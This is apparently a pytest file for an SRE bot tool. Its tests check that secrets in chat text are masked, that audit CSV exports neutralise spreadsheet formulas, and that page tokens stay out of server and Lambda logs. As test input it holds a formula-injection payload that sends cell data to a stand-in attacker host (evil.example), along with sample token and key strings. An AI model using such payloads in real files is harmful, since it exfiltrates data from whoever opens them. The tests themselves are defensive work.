"""Secrets typed into chat are masked before anything is stored; exports and logs leak nothing:
no formula runs from an audit CSV, no page token reaches an access log."""

from __future__ import annotations

import csv
import importlib
import io
import logging
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from wsgiref.simple_server import make_server

import pytest

from bots.cli import main
from bots.serve import _QuietHandler, application
from handlers import aws_pages
from shared.auditing.service import encoded
from shared.config import Settings
from tests.support.local import investigated
from tests.support.payloads import LambdaContext, load
from tests.support.terminal import trail_entries

GITHUB = "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


def _field(out: str, label: str) -> str:
    (line,) = [line for line in out.splitlines() if line.strip().startswith(label)]
    return line.split()[1]


def test_free_text_with_secrets_is_stored_nowhere_in_the_clear(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a team described, and an investigation commented on and resolved, with secrets in prose
    assert main(["team", "create", "pay", "--description", "the root password is hunter2"]) == 0
    assert main(["investigate", "checkout-api"]) == 0
    inv = _field(capsys.readouterr().out, "Investigation")
    assert main(["investigation", "comment", inv, f"CI token {GITHUB} leaked"]) == 0
    assert main(["investigation", "resolve", inv, "--summary", f"rotated {AWS_SECRET}"]) == 0
    # WHEN they are read back
    assert main(["team", "show", "pay"]) == 0
    assert main(["investigation", "show", inv]) == 0
    shown = capsys.readouterr().out
    # THEN what is shown is masked, and no file of the state, queue or trail holds a secret
    assert "the root password is ***" in shown
    assert "ghp_***" in shown
    stored = b"".join(p.read_bytes() for p in home.rglob("*") if p.is_file())
    for secret in ("hunter2", GITHUB, AWS_SECRET):
        assert secret.encode() not in stored


def test_an_audit_csv_export_runs_no_formula(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a user whose name is a spreadsheet formula: refused at the door, nothing recorded
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert main(["--as", evil, "team", "member", "add", "mallory"]) == 2
    assert main(["--as", "@SUM(1+1)", "team", "member", "add", "mallory"]) == 2
    # WHEN an auditor exports the trail as CSV
    assert main(["audit", "export", "--format", "csv"]) == 0
    path = _field(capsys.readouterr().out, "Where")
    rows = list(csv.reader(io.StringIO(Path(path).read_text())))
    # THEN no cell starts with a character a spreadsheet reads as a formula, and the names are not
    # there at all
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert not [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
    # AND an entry that carries one anyway (another platform's id, an older trail) is made inert
    (entry,) = trail_entries(home)[-1:]
    actor = entry.actor.model_copy(update={"user": evil})
    crafted = entry.model_copy(update={"actor": actor, "target": "@SUM(1+1)"})
    content, kind = encoded([crafted], "csv")
    (row,) = list(csv.reader(io.StringIO(content.decode())))[1:]
    assert kind == "text/csv"
    assert f"'{evil}" in row
    assert "'@SUM(1+1)" in row


@pytest.fixture
def page_link(tmp_path: Path) -> Iterator[tuple[str, str]]:
    """`sre serve` (with its request log) on loopback, and an investigation page's path."""
    services, page = investigated(Settings(home=tmp_path, org_admins=("T1:root",)))
    server = make_server("127.0.0.1", 0, application(services), handler_class=_QuietHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", page[page.index("/investigations/") :]
    server.shutdown()


def _logged_requests(caplog: pytest.LogCaptureFixture) -> list[logging.LogRecord]:
    """The request log's records, once the server thread has written them (after the answer)."""
    for _ in range(100):
        found = [r for r in caplog.records if r.getMessage() == "request"]
        if found:
            return found
        time.sleep(0.05)
    return []


def test_a_page_token_never_reaches_sre_serves_request_log(
    page_link: tuple[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="autosre.serve")
    base, path = page_link
    token = path.split("token=")[1]
    with urllib.request.urlopen(base + path) as response:
        assert response.status == 200
    (request,) = _logged_requests(caplog)
    assert request.__dict__["path"] == path.split("?")[0]
    assert token not in caplog.text
    assert all(token not in str(r.__dict__) for r in caplog.records)


@pytest.fixture
def pages_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """The pages function as deployed by someone who turned on Powertools' event logging, and
    what its logger writes."""
    monkeypatch.setenv("POWERTOOLS_LOGGER_LOG_EVENT", "true")
    importlib.reload(aws_pages)
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(aws_pages.logger.registered_formatter)
    stdlib = logging.getLogger(aws_pages.logger.name)
    level = stdlib.level
    stdlib.addHandler(handler)
    aws_pages.logger.setLevel(logging.INFO)  # as POWERTOOLS_LOG_LEVEL=INFO in serverless.yml
    yield written
    stdlib.setLevel(level)
    stdlib.removeHandler(handler)
    monkeypatch.delenv("POWERTOOLS_LOGGER_LOG_EVENT")
    importlib.reload(aws_pages)


def test_the_aws_pages_function_never_logs_a_page_token(
    aws: dict[str, str], pages_log: io.StringIO
) -> None:
    event: dict[str, Any] = load("aws/apiGatewayProxyV2Event.json")
    token = "T1.99999999999.c2VjcmV0LXBhZ2UtdG9rZW4"
    event.update(
        rawPath="/investigations/inv-123456",
        rawQueryString=f"token={token}",
        queryStringParameters={"token": token},
        pathParameters={"id": "inv-123456"},
    )
    event["requestContext"]["http"].update(method="GET", path="/investigations/inv-123456")
    aws_pages.logger.info("page requested")  # the log is written here
    response = aws_pages.handler(event, LambdaContext())
    assert response["statusCode"] == 403
    assert response["headers"]["Referrer-Policy"] == "no-referrer"  # nor any Referer
    assert "page requested" in pages_log.getvalue()
    assert token not in pages_log.getvalue()
